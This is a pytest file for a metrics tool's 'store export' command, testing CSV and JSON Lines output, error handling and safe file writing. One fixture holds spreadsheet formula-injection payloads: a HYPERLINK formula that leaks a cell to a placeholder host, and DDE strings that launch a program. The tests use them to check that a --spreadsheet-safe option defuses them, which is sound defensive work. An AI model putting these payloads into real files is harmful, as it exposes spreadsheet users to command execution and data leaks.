"""``fediscope store export NAME``: a stored metric's rows as CSV or JSON Lines, read through the store port (SQLite,
MariaDB and HBase alike) a page at a time in the store's top-N order, or one prefix value's rows in key order; to
stdout, or atomically to ``--out``; a name the store does not hold is refused listing those it does; a reader that
leaves early (``| head``) stops it quietly."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest
from cli_run import clean_env, run
from dev_stdout import run_redirected
from terminal_screen import TerminalStream
from test_report_own_metrics import _expected, processed  # noqa: F401 - `processed` is a fixture

from fediscope import analysis
from fediscope.engine.metrics import parse_metric
from fediscope.store.export import Progress
from fediscope.store.sqlite import SQLiteStore


def _csv_rows(text: str) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    return list(reader.fieldnames or []), list(reader)


def _as_csv(row: dict) -> dict[str, str]:
    """A stored row as the CSV holds it: None empty, booleans true/false, floats by repr, the rest as text."""
    def cell(value: object) -> str:
        if value is None:
            return ""
        if isinstance(value, bool):
            return "true" if value else "false"
        return repr(value) if isinstance(value, float) else str(value)
    return {column: cell(value) for column, value in row.items()}


# -- a SQLite store filled by `fediscope process` -----------------------------------------------------------------

def test_csv_of_a_processed_metric_reads_back_as_the_store_rows_in_rank_order(processed, capsys):  # noqa: F811
    expected = _expected(processed)  # toots desc, ties by language: the metric's rank order
    code, out, err = run(capsys, "store", "export", "language_mix")
    assert (code, err) == (0, "")  # stderr is no terminal: no progress, and no closing line without --out
    header, rows = _csv_rows(out)
    assert header == ["language", "toots", "quarter"]
    assert rows == [_as_csv(row) for row in expected]
    assert any(float(row["quarter"]) % 1 for row in rows)  # a quarter with decimals: floats written as such


def test_jsonl_of_a_processed_metric_has_the_exact_values(processed, capsys):  # noqa: F811
    code, out, err = run(capsys, "store", "export", "language_mix", "--format", "jsonl")
    assert (code, err) == (0, "")
    rows = [json.loads(line) for line in out.splitlines()]
    assert rows == _expected(processed)
    assert all(type(row["toots"]) is int and type(row["quarter"]) is float for row in rows)


def test_out_writes_the_file_and_says_so(processed, capsys):  # noqa: F811
    code, out, _ = run(capsys, "store", "export", "language_mix")
    assert code == 0
    code, printed, err = run(capsys, "store", "export", "language_mix", "--out", "mix.csv")
    assert (code, printed) == (0, "")
    assert err == f"exported {len(_expected(processed))} rows of language_mix to mix.csv\n"
    assert (processed / "mix.csv").read_bytes() == out.encode()
    assert not [p.name for p in processed.iterdir() if p.name.startswith(".mix.csv")]  # no temporary file left


def test_unknown_name_is_refused_listing_the_stored_ones_and_keeps_an_existing_out_file(processed, capsys):  # noqa: F811
    kept = processed / "old.csv"
    kept.write_text("an earlier export\n")
    before = sorted(p.name for p in processed.iterdir())
    code, out, err = run(capsys, "store", "export", "no_such_metric", "--out", "old.csv")
    assert (code, out) == (2, "")
    assert err == (f"fediscope: error: the store sqlite:///{processed / 'store.db'} holds no metric 'no_such_metric'; "
                   "the metrics it holds: language_mix, languages\n")
    assert kept.read_text() == "an earlier export\n"
    assert sorted(p.name for p in processed.iterdir()) == before


def test_a_sqlite_store_not_created_yet_is_said_so_as_the_report_says_it(tmp_path, monkeypatch, capsys):
    """Was: ``the store … holds no metric 'languages'; the metrics it holds: none`` (exit 2), as if the name were
    wrong, when the store path is (the default ``sqlite:///fediscope.db`` after ``make demo``, a typo): the same
    error as ``fediscope report`` now, and still nothing is created."""
    from cli_run import clean_env

    clean_env(tmp_path, monkeypatch)  # the default store, sqlite:///fediscope.db, not created
    code, out, err = run(capsys, "store", "export", "languages", "--out", "languages.csv")
    assert (code, out) == (1, "")
    assert err == ("fediscope: error: the SQLite store fediscope.db does not exist yet: run "
                   "`fediscope process` first (it curates the lake, computes the metrics and creates the store), "
                   "or point --store / FEDISCOPE_STORE (or [fediscope] store in fediscope.toml) at an existing one\n")
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def test_an_out_file_that_cannot_be_written_is_one_line_exit_2(processed, capsys):  # noqa: F811
    code, out, err = run(capsys, "store", "export", "language_mix", "--out", "no/such/dir/mix.csv")
    assert (code, out) == (2, "")
    assert err == ("fediscope: error: cannot write no/such/dir/mix.csv: No such file or directory; choose another "
                   "--out (or leave it out to print to stdout)\n")


def test_out_keeps_an_existing_file_when_a_read_fails_half_way(processed, capsys, monkeypatch):  # noqa: F811
    """The first page is written to the temporary file, the second read fails: the file is as it was, no temporary
    file is left, and its mode is kept by a later export that succeeds."""
    from fediscope.errors import StoreError

    monkeypatch.setattr(analysis, "PAGE_ROWS", 2)
    target = processed / "mix.csv"
    target.write_text("an earlier export\n")
    target.chmod(0o640)
    read = SQLiteStore.top
    calls = []

    def failing_second_page(self, metric, n, after=None):
        calls.append(after)
        if len(calls) == 2:
            raise StoreError("the store went away")
        return read(self, metric, n, after=after)

    monkeypatch.setattr(SQLiteStore, "top", failing_second_page)
    code, out, err = run(capsys, "store", "export", "language_mix", "--out", "mix.csv")
    assert (code, out, err) == (1, "", "fediscope: error: the store went away\n")
    assert len(calls) == 2 and calls[1] is not None  # it failed after a page had been written
    assert target.read_text() == "an earlier export\n"
    assert sorted(p.name for p in processed.iterdir() if "mix" in p.name) == ["mix.csv"]
    monkeypatch.setattr(SQLiteStore, "top", read)
    code, _, err = run(capsys, "store", "export", "language_mix", "--out", "mix.csv")
    assert code == 0, err
    assert _csv_rows(target.read_bytes().decode())[1] == [_as_csv(row) for row in _expected(processed)]
    assert target.stat().st_mode & 0o777 == 0o640


def test_a_reader_that_leaves_early_stops_it_quietly(processed):  # noqa: F811
    """``fediscope store export NAME | head``: exit 141 as SIGPIPE ends a Unix tool, nothing on stderr. The reader
    is gone before the first line (a closed pipe)."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        result = subprocess.run([sys.executable, "-m", "fediscope.cli", "store", "export", "language_mix"],
                                stdout=write_end, stderr=subprocess.PIPE, text=True, timeout=120)
    finally:
        os.close(write_end)
    assert (result.returncode, result.stderr) == (141, "")


# -- the same on every store ---------------------------------------------------------------------------------------

ROWS = [{"tag": tag, "day": day, "uses": uses, "mean": mean, "bot": bot}
        for tag, day, uses, mean, bot in [("a", "2024-01-01", 5, 0.5, True), ("b", "2024-01-01", 9, 1.25, False),
                                          ("c", "2024-01-02", 5, None, None), ("d", "2024-01-02", None, 2.0, True),
                                          ("e", "2024-01-03", 1, 0.004, False), ("f", "2024-01-02", 9, 3.0, None),
                                          ("g", "2024-01-04", 2, 7.5, True)]]
#: a metric of one's own, no SQL file: read by the key, rank and prefix the store recorded
DAY_USES = parse_metric("day_uses", "-- question: q?\n-- key: day, tag\n-- rank: uses DESC\nSELECT 1")


@pytest.fixture
def exporting(metric_store, tmp_path, monkeypatch):
    """``metric_store`` holding ``day_uses`` and an integer-prefixed metric, the CLI pointed at it, pages of 3."""
    url = metric_store.url
    extra = {"FEDISCOPE_HBASE_TABLE_PREFIX": metric_store.prefix} if url.startswith("hbase://") else {}
    clean_env(tmp_path, monkeypatch, FEDISCOPE_STORE=url, **extra)
    monkeypatch.setattr(analysis, "PAGE_ROWS", 3)
    metric_store.write(DAY_USES, ROWS)
    by_hour = parse_metric("by_hour", "-- question: h?\n-- key: hour, tag\nSELECT 1")
    metric_store.write(by_hour, [{"hour": hour, "tag": tag, "toots": toots}
                                 for hour, tag, toots in [(3, "x", 1), (2, "y", 2), (3, "a", 3), (12, "z", 4)]])
    return metric_store


def test_every_store_exports_every_row_in_rank_order_a_page_at_a_time(exporting, capsys):
    ranked = [*sorted((r for r in ROWS if r["uses"] is not None), key=lambda r: (-r["uses"], r["day"], r["tag"])),
              *(r for r in ROWS if r["uses"] is None)]
    code, out, err = run(capsys, "store", "export", "day_uses", "--format", "jsonl")
    assert (code, err) == (0, "")
    assert [json.loads(line) for line in out.splitlines()] == ranked
    code, out, err = run(capsys, "store", "export", "day_uses")
    assert (code, err) == (0, "")
    assert _csv_rows(out) == (["tag", "day", "uses", "mean", "bot"], [_as_csv(row) for row in ranked])


def test_every_store_exports_one_prefix_value_in_key_order(exporting, capsys):
    code, out, err = run(capsys, "store", "export", "day_uses", "--prefix", "2024-01-02", "--format", "jsonl")
    assert (code, err) == (0, "")
    assert [json.loads(line) for line in out.splitlines()] == [ROWS[2], ROWS[3], ROWS[5]]  # c, d, f: by key
    code, out, err = run(capsys, "store", "export", "by_hour", "--prefix", "3")  # an integer prefix column
    assert (code, err) == (0, "")
    assert _csv_rows(out) == (["hour", "tag", "toots"], [{"hour": "3", "tag": "a", "toots": "3"},
                                                         {"hour": "3", "tag": "x", "toots": "1"}])
    code, out, err = run(capsys, "store", "export", "day_uses", "--prefix", "1999-01-01")
    assert (code, out) == (0, "tag,day,uses,mean,bot\r\n")  # no row: the header alone, and a warning (below)
    assert err.startswith("fediscope: warning: no row of day_uses has day = '1999-01-01'")


def test_a_prefix_matching_no_row_names_the_column_it_was_matched_against(exporting, capsys, tmp_path):
    """A tag given to a metric whose prefix column is its day (as ``hashtags_daily``'s is) exports the header alone:
    the warning says which column --prefix selects by, and how to select by the other key column."""
    code, out, err = run(capsys, "store", "export", "day_uses", "--prefix", "a")
    assert (code, out) == (0, "tag,day,uses,mean,bot\r\n")
    assert err == ("fediscope: warning: no row of day_uses has day = 'a' (--prefix selects by the metric's prefix "
                   "column, day; to select by tag, export every row and filter them)\n")
    out_file = tmp_path / "hour.jsonl"
    code, out, err = run(capsys, "store", "export", "by_hour", "--prefix", "7", "--format", "jsonl", "--out",
                         str(out_file))
    assert (code, out, out_file.read_text()) == (0, "", "")
    assert err == ("fediscope: warning: no row of by_hour has hour = '7' (--prefix selects by the metric's prefix "
                   f"column, hour; to select by tag, export every row and filter them)\nexported 0 rows of by_hour "
                   f"to {out_file}\n")
    code, out, err = run(capsys, "store", "export", "day_uses", "--prefix", "2024-01-03")  # a row: no warning
    assert (code, err) == (0, "")


def test_every_store_exports_a_metric_computed_with_no_rows_as_its_header_alone(exporting, capsys, tmp_path):
    """A metric whose result had no rows: the CSV is its header alone, from the columns the store recorded for it
    (the header is otherwise written with the first page); JSON Lines has no line."""
    none_yet = parse_metric("none_yet", "-- question: n?\n-- key: tag\n-- rank: uses DESC\nSELECT 1")
    exporting.write(none_yet, [], types={"tag": "str", "uses": "int", "share": "float"})
    assert run(capsys, "store", "export", "none_yet") == (0, "tag,uses,share\r\n", "")
    assert run(capsys, "store", "export", "none_yet", "--format", "jsonl") == (0, "", "")
    out = tmp_path / "none_yet.csv"
    assert run(capsys, "store", "export", "none_yet", "--out", str(out)) == (0, "",
                                                                            f"exported 0 rows of none_yet to {out}\n")
    assert out.read_bytes() == b"tag,uses,share\r\n"


def test_a_prefix_its_column_cannot_hold_is_one_line_exit_2(exporting, capsys):
    code, out, err = run(capsys, "store", "export", "by_hour", "--prefix", "03")
    assert (code, out) == (2, "")
    assert err == ("fediscope: error: --prefix must be a number for metric by_hour (its prefix column hour holds "
                   "numbers, written as JSON writes them, without spaces or leading zeros; got '03')\n")


def test_every_store_exports_a_float_prefix_value_beyond_the_64_bit_integers(exporting, capsys):
    """Was: the 64-bit range that an integer prefix column holds was asked of a float one too, so a float every store
    holds, as the JSON Lines export writes it (``1e+20``), was refused as "must be a number" (exit 2)."""
    by_score = parse_metric("by_score", "-- question: s?\n-- key: score, tag\nSELECT 1")
    rows = [{"score": score, "tag": tag} for score, tag in [(1e20, "b"), (2.5, "c"), (-1e300, "d"), (1e20, "a")]]
    exporting.write(by_score, rows)
    code, out, err = run(capsys, "store", "export", "by_score", "--format", "jsonl")
    assert (code, err) == (0, "") and '{"score":1e+20,"tag":"a"}' in out.splitlines()
    for written in ("1e+20", "100000000000000000000", "1E20"):  # Python's json; JavaScript's JSON.stringify
        code, out, err = run(capsys, "store", "export", "by_score", "--prefix", written, "--format", "jsonl")
        assert (code, err) == (0, ""), written
        assert [json.loads(line) for line in out.splitlines()] == [rows[3], rows[0]]  # a, b: by key
    code, out, err = run(capsys, "store", "export", "by_score", "--prefix", "-1e300", "--format", "jsonl")
    assert (code, err) == (0, "") and [json.loads(line) for line in out.splitlines()] == [rows[2]]
    code, out, err = run(capsys, "store", "export", "by_score", "--prefix", "1e999")  # no float holds it
    assert (code, out) == (2, "") and err.startswith("fediscope: error: --prefix must be a number for metric by_score")
    code, out, err = run(capsys, "store", "export", "by_hour", "--prefix", "9223372036854775808")  # 2**63
    assert (code, out) == (2, "") and err.startswith("fediscope: error: --prefix must be a number for metric by_hour")


def test_every_store_refuses_a_name_it_does_not_hold(exporting, capsys):
    code, out, err = run(capsys, "store", "export", "nothing_here")
    assert (code, out) == (2, "")
    assert err.endswith("holds no metric 'nothing_here'; the metrics it holds: by_hour, day_uses\n")



def _stop_a_write(store, metric, rows) -> None:
    """``store`` writes ``rows`` to ``metric`` and stops after its rows changed, before recording the write's end
    (killed): the metric is left under a provisional generation."""
    from fediscope.errors import StoreError

    def killed(*_args, **_kwargs):
        raise StoreError("killed")

    store._commit = killed
    try:
        with pytest.raises(StoreError, match="killed"):
            store.write(metric, rows)
    finally:
        del store._commit


def test_every_store_refuses_a_metric_a_stopped_write_left_partly_written(exporting, capsys, tmp_path):
    """Was: exported with exit 0 and no word, though its rows may mix two writes, where the report names it "Partly
    written" and the results API answers its cursors 409 ``stale_cursor``. Refused now with the same advice, before
    a row is written; the other metrics export as before, and a write of it that ends lets it export again."""
    _stop_a_write(exporting, DAY_USES, [dict(row, uses=1) for row in ROWS[:4]])
    kept = tmp_path / "day_uses.csv"
    kept.write_text("an earlier export\n")
    for out in ([], ["--out", str(kept)]):
        code, printed, err = run(capsys, "store", "export", "day_uses", *out)
        assert (code, printed) == (1, "")
        assert err == (f"fediscope: error: metric day_uses is partly written ({analysis.PARTLY_WRITTEN_ADVICE}): its "
                       "rows may mix rows of before and after that write, so none was exported; export it again "
                       "once that is done\n")
    assert kept.read_text() == "an earlier export\n"
    assert sorted(p.name for p in tmp_path.iterdir() if "day_uses" in p.name) == ["day_uses.csv"]
    assert run(capsys, "store", "export", "by_hour")[0] == 0
    exporting.write(DAY_USES, ROWS)  # `fediscope process` run again
    code, out, err = run(capsys, "store", "export", "day_uses", "--format", "jsonl")
    assert (code, err) == (0, "") and len(out.splitlines()) == len(ROWS)


def test_a_write_that_stops_while_a_one_page_export_reads_fails_it(exporting, capsys, tmp_path, monkeypatch):
    """The page walk compares the metric's generation after each page but the first (:func:`analysis._pages`): a
    metric of one page that a write began changing while it was read was exported with exit 0. It fails as an
    export overtaken by a write does, leaving ``--out`` as it was."""
    monkeypatch.setattr(analysis, "PAGE_ROWS", 1000)  # every row on one page
    store_type, stopped = type(exporting), []
    top = store_type.top

    def stopping_a_write(self, metric, n, after=None):
        if self is not exporting and metric.name == "day_uses" and not stopped:
            stopped.append(True)
            _stop_a_write(exporting, DAY_USES, [dict(row, uses=1) for row in ROWS[:4]])
        return top(self, metric, n, after=after)

    monkeypatch.setattr(store_type, "top", stopping_a_write)
    kept = tmp_path / "day_uses.csv"
    kept.write_text("an earlier export\n")
    code, out, err = run(capsys, "store", "export", "day_uses", "--out", str(kept))
    assert stopped and (code, out) == (1, "")
    assert err.startswith("fediscope: error: metric day_uses was written again (fediscope process) while its rows "
                          "were read, so they would mix two writes")
    assert kept.read_text() == "an earlier export\n"

# -- NULL and empty text; formulas ---------------------------------------------------------------------------------

#: text a spreadsheet runs as a formula (OWASP's CSV injection payloads), beside NULL, empty text and numbers
NOTES = [{"tag": tag, "note": note, "n": n, "x": x} for tag, note, n, x in [
    ("a", None, -3, -0.5), ("b", "", 0, None), ("c", '=HYPERLINK("http://x.example/?"&A1,"click")', 1, 1.5),
    ("d", "-2+3+cmd|' /C calc'!A0", -1, -2e-05), ("e", "@SUM(1+1)*cmd|' /C calc'!A0", 2, None),
    ("f", "\t=1+1", None, 0.25), ("g", "\r=1+1", 4, 3.0), ("h", "-3", 5, -7.0), ("i", "+1.5", 6, None),
    ("j", 'two\nlines, "quoted"', 7, 1e20), ("k", "plain", 8, 2.0)]]
NOTES_METRIC = parse_metric("notes", "-- question: n?\n-- key: tag\nSELECT 1")
#: what a spreadsheet-safe export turns into text: everything starting = + - @ tab CR but the plain numbers
DEFUSED = {"c", "d", "e", "f", "g"}


@pytest.fixture
def notes(exporting):
    exporting.write(NOTES_METRIC, NOTES)
    return exporting


def _duckdb_rows(path, **options) -> tuple[list[tuple], list[str]]:
    """The CSV as DuckDB's ``read_csv`` reads it (its types detected), and those types."""
    import duckdb

    connection = duckdb.connect()
    try:
        relation = connection.read_csv(str(path), **options)
        return relation.fetchall(), [str(kind) for kind in relation.types]
    finally:
        connection.close()


def test_every_store_exports_null_as_an_empty_field_and_empty_text_quoted(notes, capsys, tmp_path):
    """Was: both as an empty field, so no reader could tell NULL from ``''``. Now NULL is ``,,`` and empty text
    ``,"",`` (PostgreSQL's CSV convention): DuckDB with ``allow_quoted_nulls=false`` and pyarrow with
    ``quoted_strings_can_be_null=False`` read them back as NULL and ``''``; readers that cannot tell stay as before."""
    code, out, err = run(capsys, "store", "export", "notes", "--out", "notes.csv")
    assert (code, out) == (0, "")
    text = (tmp_path / "notes.csv").read_bytes().decode()
    assert text.splitlines()[:3] == ["tag,note,n,x", "a,,-3,-0.5", 'b,"",0,']
    assert '"two\nlines, ""quoted"""' in text  # quoted as RFC 4180 has it
    stored = [tuple(row.values()) for row in NOTES]
    rows, types = _duckdb_rows(tmp_path / "notes.csv", allow_quoted_nulls=False)
    assert (rows, types) == (stored, ["VARCHAR", "VARCHAR", "BIGINT", "DOUBLE"])
    rows, _ = _duckdb_rows(tmp_path / "notes.csv")  # DuckDB's default: "" is NULL too, as before
    assert rows[1][1] is None and rows[2:] == stored[2:]

    import pyarrow.csv

    table = pyarrow.csv.read_csv(tmp_path / "notes.csv", convert_options=pyarrow.csv.ConvertOptions(
        strings_can_be_null=True, quoted_strings_can_be_null=False))
    assert table.to_pylist() == NOTES
    assert [row["note"] for row in csv.DictReader(io.StringIO(text, newline=""))][:2] == ["", ""]  # as before


def test_every_store_exports_formula_text_as_stored_unless_spreadsheet_safe(notes, capsys, tmp_path):
    """Without --spreadsheet-safe the data is as stored (a program reads it back exactly); with it, text a
    spreadsheet would run (=, +, -, @, tab, CR first: CSV injection) gets a ' first, while numbers, and text that
    is a plain number (-3, +1.5), stay as they are, so a reader still finds numbers there."""
    code, out, err = run(capsys, "store", "export", "notes")
    assert (code, err) == (0, "")
    assert [row["note"] for row in csv.DictReader(io.StringIO(out, newline=""))] == [
        row["note"] or "" for row in NOTES]
    code, _, err = run(capsys, "store", "export", "notes", "--spreadsheet-safe", "--out", "safe.csv")
    assert (code, err) == (0, f"exported {len(NOTES)} rows of notes to safe.csv\n")
    rows, types = _duckdb_rows(tmp_path / "safe.csv", allow_quoted_nulls=False)
    assert types == ["VARCHAR", "VARCHAR", "BIGINT", "DOUBLE"]  # the numbers are still numbers
    assert rows == [(row["tag"], "'" + row["note"] if row["tag"] in DEFUSED else row["note"], row["n"], row["x"])
                    for row in NOTES]
    text = (tmp_path / "safe.csv").read_bytes().decode()
    assert "a,,-3,-0.5\r\n" in text and 'b,"",0,\r\n' in text and "h,-3,5,-7.0\r\n" in text


def test_every_store_exports_text_that_is_a_backslash_dot_quoted(exporting, capsys):
    """In a one-column metric a text value ``\\.`` was a line of its own, unquoted: PostgreSQL's ``COPY … FROM`` in
    CSV mode reads that line as the end of the data, dropping every row after it (its own ``COPY TO`` quotes it).
    Now it is quoted (the same text to every CSV reader); text merely holding it is not."""
    marks = parse_metric("marks", "-- question: m?\n-- key: mark\nSELECT 1")
    exporting.write(marks, [{"mark": mark} for mark in ("\\.", "a\\.", "z")])
    code, out, err = run(capsys, "store", "export", "marks")
    assert (code, err) == (0, "")
    assert out == 'mark\r\n"\\."\r\na\\.\r\nz\r\n'
    assert _csv_rows(out) == (["mark"], [{"mark": "\\."}, {"mark": "a\\."}, {"mark": "z"}])


def test_spreadsheet_safe_with_json_lines_is_refused(capsys, tmp_path, monkeypatch):
    clean_env(tmp_path, monkeypatch)  # refused before the store is opened
    code, out, err = run(capsys, "store", "export", "notes", "--format", "jsonl", "--spreadsheet-safe",
                         "--out", "notes.jsonl")
    assert (code, out) == (2, "")
    assert err == ("fediscope: error: --spreadsheet-safe applies to CSV only (a spreadsheet does not open JSON "
                   "Lines); leave it out with --format jsonl\n")
    assert not (tmp_path / "notes.jsonl").exists()


# -- progress ------------------------------------------------------------------------------------------------------

def test_progress_shows_the_rows_written_every_few_seconds_and_is_cleared(monkeypatch):
    monkeypatch.setenv("COLUMNS", "80")
    stream, now = TerminalStream(), [100.0]
    progress = Progress("day_uses", True, stream, clock=lambda: now[0])
    progress.rows(1000)  # too soon after the start
    now[0] += 2.5
    progress.rows(2000)
    now[0] += 1
    progress.rows(3000)  # too soon after the last
    now[0] += 2
    progress.rows(4000)
    progress.close()
    assert stream.getvalue() == ("\rexporting day_uses: 2,000 rows\rexporting day_uses: 4,000 rows"
                                 "\r" + " " * 30 + "\r")  # blanked by its width: 60 spaces wrapped a narrow one
    piped = io.StringIO()  # not a terminal: nothing, enabled or not (the CLI enables it on a terminal alone)
    on_a_pipe = Progress("day_uses", True, piped, clock=lambda: now[0])
    now[0] += 10
    on_a_pipe.rows(5000)
    on_a_pipe.close()
    assert piped.getvalue() == ""
    quiet = io.StringIO()
    off = Progress("day_uses", False, quiet, clock=lambda: now[0])
    now[0] += 10
    off.rows(5000)
    off.close()
    assert quiet.getvalue() == ""


def test_out_dev_stdout_redirected_to_a_file_lands_in_the_file(processed, capsys):  # noqa: F811
    """``fediscope store export NAME --out /dev/stdout > file``: the rows in ``file``, as without ``--out``. Was: a
    permission error on ``/dev`` (exit 2; as root, ``/dev/stdout`` itself replaced by the export)."""
    code, out, _ = run(capsys, "store", "export", "language_mix")
    assert code == 0
    result = run_redirected(processed / "redirected.csv", "store", "export", "language_mix", "--out", "/dev/stdout")
    assert result.returncode == 0, result.stderr
    assert (processed / "redirected.csv").read_bytes() == out.encode()
    assert result.stderr == f"exported {len(_expected(processed))} rows of language_mix to /dev/stdout\n"
